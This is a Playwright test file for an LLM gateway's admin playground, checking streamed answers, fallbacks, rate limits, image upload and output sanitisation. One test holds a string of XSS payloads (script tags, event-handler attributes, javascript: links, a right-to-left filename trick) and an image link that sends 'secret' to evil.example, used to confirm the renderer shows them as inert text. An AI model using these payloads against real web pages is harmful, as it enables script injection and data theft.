"""People ask models in a real browser on a real gateway: streamed, compared, explained, as code; and models that mean no good."""

from __future__ import annotations

import json
from base64 import b64decode
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import COLOURS, WIDE, Visit, logged_in
from tests.browser.test_cutover import ADA, prepared
from tests.inference.test_forwarding_processes import PATIENCE_SECONDS, Installation
from tests.inference.workers import eventually

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("playground")]

FILL = (
    ADA
    + """
from providers.models import ConnectionParameter, Provider
from routing import issuing, policy_actions
from routing.models import RateLimit
def add(name, priority, **parameters):
    made = Provider.objects.create(provider_id=name, provider_type="fake", priority=priority)
    for parameter, value in parameters.items():
        ConnectionParameter.objects.create(provider=made, param_name=parameter, param_value=value)
    return made.models.create(model_id=f"{name}-chat", capabilities=["chat", "vision"], input_cost_per_million=1, output_cost_per_million=2)
add("slow", 5, delay_seconds="0.05")
add("broken", 6, scenario="503")
policy_actions.create({"name": "careful", "document": {"targets": ["broken-chat"], "fallbacks": ["fake-chat"]}})
tight = issuing.issue("tight", ["generate"], allowed_models=["fake-chat"])[0]
RateLimit.objects.create(subject="key", client_key=tight, requests_per_minute=1)
"""
)
WORDS = 1200
"""A minute of the slow one's, which is what a person on a busy machine may need to stop it."""
OFFERED = ".gw-combo-option:visible"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

EVIL = """<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 1"> &lt;b&gt;
[go](javascript:window.hacked=1) [data](data:text/html,<script>1</script>) [by](https://ada:secret@example.org/)
![stolen](https://evil.example/?q=secret) [fine](https://example.org/page) https://example.net/x<b>
<a href="javascript:alert(1)">x</a> **bold** <svg/onload=window.hacked=1>

| a | b |
|---|---|
| <i onclick=alert(1)>x</i> | [y](JaVaScRiPt:alert(1)) |

- one \u202egnp.exe
- `<b>code</b>`

```html
<script>window.hacked = 1</script>
"""


@pytest.fixture(scope="module")
def installation(tmp_path_factory: pytest.TempPathFactory, redis_url: str) -> Iterator[Installation]:
    with prepared(tmp_path_factory.mktemp("playground"), redis_url, FILL) as made:
        yield made


@pytest.fixture
def playing(browser: Browser, installation: Installation) -> Iterator[Visit]:
    with logged_in(browser, f"http://127.0.0.1:{installation.ports[0]}") as visit:
        visit.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        yield visit


def at_rest(page: Page) -> None:
    """Every column has had its answer: while one has not, the page neither sends nor edits."""
    expect(page.locator("#gw-play-send")).to_have_text("arrow_upwardSend")


def ask(page: Page, text: str) -> None:
    at_rest(page)
    page.fill("#gw-play-said", text)
    page.keyboard.press("Enter")


def copied_once(page: Page, begin: str) -> str:
    """What is in the clipboard when it begins so: a click is over before the page has copied."""
    copied = ""

    def there() -> bool:
        nonlocal copied
        copied = page.evaluate("navigator.clipboard.readText()")
        return copied.startswith(begin)

    assert eventually(there, PATIENCE_SECONDS), copied
    return copied


def test_answers_stream_side_by_side_with_their_figures_reasons_and_code(playing: Visit) -> None:
    page = playing.page
    playing.open("/admin/playground/?model=fake-chat")
    page.get_by_role("button", name="Compare").click()
    page.keyboard.type("caref")
    expect(page.locator(OFFERED)).to_have_count(1)
    page.keyboard.press("Enter")
    ask(page, "one two three")

    answers = page.locator(".gw-play-answer")
    for number, column in enumerate(("fake-chat", "careful")):
        answer = answers.nth(number)
        expect(answer.locator(".gw-md")).to_have_text("one two three")
        expect(answer.locator(".gw-play-route")).to_contain_text("fake/fake-chat")
        expect(answer.locator(".gw-play-figures")).to_contain_text("3 → 3")
        expect(answer.locator(".gw-play-figures")).to_contain_text("0.000009 USD")
        assert f"model={column}" in page.url
    rescued = answers.nth(1)
    expect(rescued.locator(".gw-play-served")).to_contain_text("fallback")
    rescued.get_by_text("Why this one?").click()
    expect(rescued.locator(".gw-play-tries")).to_contain_text("broken/broken-chat")
    expect(rescued.locator(".gw-play-candidates")).to_contain_text("fake-chat")

    for theme, width in playing.both_themes_and_widths():
        if width == WIDE:
            assert playing.axe(*(() if theme == "light" else COLOURS)) == []
    playing.show("light", WIDE)

    # As code, which is what was sent.
    rescued.get_by_role("button", name="Show as code").click()
    code = page.locator("dialog .gw-play-code")
    expect(code).to_contain_text("Authorization: Bearer $GATEWAY_API_KEY")
    sent = json.loads(code.inner_text().split("-d '")[1].rstrip("'"))
    assert (sent["model"], sent["messages"]) == ("careful", [{"role": "user", "content": "one two three"}])
    page.get_by_role("tab", name="Python").click()
    page.get_by_role("button", name="Copy", exact=True).last.click()
    copied = copied_once(page, "import os")
    compile(copied, "copied", "exec")
    assert 'api_key=os.environ["GATEWAY_API_KEY"]' in copied
    page.keyboard.press("Escape")
    expect(code).to_have_count(0)

    # What was said before goes with the next question; an edit asks anew.
    ask(page, "four")
    expect(answers).to_have_count(4)
    expect(answers.nth(1).locator(".gw-md")).to_have_text("four")
    at_rest(page)
    page.locator(".gw-play-question").first.hover()
    page.get_by_role("button", name="Edit and send again").first.click()
    expect(page.locator("#gw-play-said")).to_have_value("one two three")
    ask(page, "five")
    expect(answers).to_have_count(2)
    expect(answers.first.locator(".gw-md")).to_have_text("five")

    # A reload of the tab keeps all of it; the request's own page is a click away.
    expect(answers.first.locator(".gw-play-request")).to_be_visible()
    page.reload()
    expect(answers.first.locator(".gw-md")).to_have_text("five")
    answers.first.locator(".gw-play-request").click()
    expect(page.locator("body")).to_contain_text("playground")
    expect(page.locator("body")).to_contain_text("user:ada")


def test_an_answer_can_be_stopped_a_limit_holds_and_a_picture_is_seen(playing: Visit) -> None:
    page = playing.page
    playing.open("/admin/playground/?model=slow-chat")
    ask(page, "word " * WORDS)
    answer = page.locator(".gw-play-answer")
    expect(answer.locator(".gw-md")).to_contain_text("word word")
    page.get_by_role("button", name="Stop").click()
    expect(answer).to_contain_text("You stopped this answer.")
    expect(answer.locator(".gw-play-figures")).to_contain_text("USD")
    assert len(answer.locator(".gw-md").inner_text().split()) < WORDS

    page.get_by_role("button", name="Clear").click()
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach pictures").click()
    chooser.value.set_files({"name": "dot.png", "mimeType": "image/png", "buffer": b64decode(PIXEL)})
    expect(page.locator(".gw-play-picture")).to_have_count(1)
    with page.expect_request("**/admin/playground/chat") as sent:
        ask(page, "what is this")
    content = sent.value.post_data_json["messages"][0]["content"]
    assert content[1]["image_url"]["url"] == f"data:image/png;base64,{PIXEL}"
    expect(page.locator(".gw-play-asked img")).to_be_visible()

    # As somebody else's key: what it may not ask for, and how often, holds here as well.
    page.get_by_role("combobox", name="Ask as").click()
    page.get_by_role("option", name="tight").click()
    page.get_by_role("combobox", name="Model, policy, task or node").click()
    expect(page.locator(OFFERED)).to_have_text(
        ["carefulbroken-chat, fake-chat", "fake-chatfake · 1.00 / 2.00 USD per M"]
    )
    page.locator(OFFERED).last.click()
    page.get_by_role("button", name="Clear").click()
    ask(page, "first")
    expect(answer.first.locator(".gw-md")).to_have_text("first")
    ask(page, "second")
    expect(answer.nth(1).get_by_role("alert")).to_contain_text("429 rate_limit_exceeded")
    expect(answer.nth(1)).to_contain_text("A limit of the key")


def test_what_a_model_writes_is_text_whatever_it_writes(playing: Visit) -> None:
    page = playing.page
    playing.open("/admin/playground/?model=fake-chat")
    ask(page, EVIL)
    answer = page.locator(".gw-play-answer .gw-md")
    expect(answer).to_contain_text("<script>window.hacked = 1</script>")
    expect(page.locator(".gw-play-figures")).to_contain_text("USD")
    assert page.evaluate("window.hacked") is None
    assert answer.locator("script, img, svg, iframe, object, style, form, input").count() == 0
    links = answer.locator("a").evaluate_all("links => links.map(a => [a.href, a.rel, a.textContent])")
    assert links == [
        ["https://example.org/page", "noopener noreferrer nofollow", "fine"],
        ["https://example.net/x", "noopener noreferrer nofollow", "https://example.net/x"],
    ]
    attributes = answer.evaluate(
        "place => [...new Set([...place.querySelectorAll('*')].flatMap(e => e.getAttributeNames()))].filter(name => name.startsWith('on') || name === 'style' || name === 'src')"
    )
    assert attributes == []
    for shown in ("&lt;b&gt;", "(example.org)", "U+202E", "stolen (evil.example)", "[go](javascript:window.hacked=1)"):
        expect(answer).to_contain_text(shown)
    expect(answer.locator("td").first).to_have_text("<i onclick=alert(1)>x</i>")
    expect(answer.locator("li code")).to_have_text("<b>code</b>")
    expect(answer.locator(".gw-md-code pre")).to_have_text("<script>window.hacked = 1</script>")

    # Hostile sizes and shapes are drawn in a moment.
    took = page.evaluate(
        """async () => {
            const { render } = await import("/static/gateway/playground/markdown.js");
            const shapes = ["*", "[", "`", "> ", "- ", "|", "# " + " ".repeat(50), "**a ", "[a](", "\\n", "x",
                "a|b\\n" + " ".repeat(50000) + "-" + " ".repeat(50000) + "x",
                "# " + " ".repeat(1900) + "a" + " ".repeat(1900) + "\\u2028b\\n"];
            const times = shapes.map(shape => {
                // The best of three: a machine that has other things to do in one of them proves nothing.
                return Math.min(...[1, 2, 3].map(() => {
                    const began = performance.now();
                    render(shape.repeat(Math.floor(110000 / shape.length)));
                    return performance.now() - began;
                }));
            });
            render("y".repeat(5_000_000));
            return Math.max(...times);
        }"""
    )
    assert took < 3000

    # Pieces of a stream may end anywhere, in the middle of a character too.
    said = page.evaluate(
        """async () => {
            const { events } = await import("/static/gateway/playground/stream.js");
            const bytes = new TextEncoder().encode(": hi\\r\\n\\r\\ndata: {\\"a\\": \\"héé 👋\\"}\\r\\n\\r\\ndata: one\\ndata: two\\n\\nevent: x\\rdata:[DONE]");
            const told = [];
            for (const size of [1, 2, 3, 7, 1000]) {
                const stream = new ReadableStream({ start(out) {
                    for (let at = 0; at < bytes.length; at += size) out.enqueue(bytes.slice(at, at + size));
                    out.close();
                }});
                const all = [];
                for await (const data of events(stream)) all.push(data);
                told.push(all);
            }
            return told;
        }"""
    )
    assert said == [['{"a": "héé 👋"}', "one\ntwo", "[DONE]"]] * 5
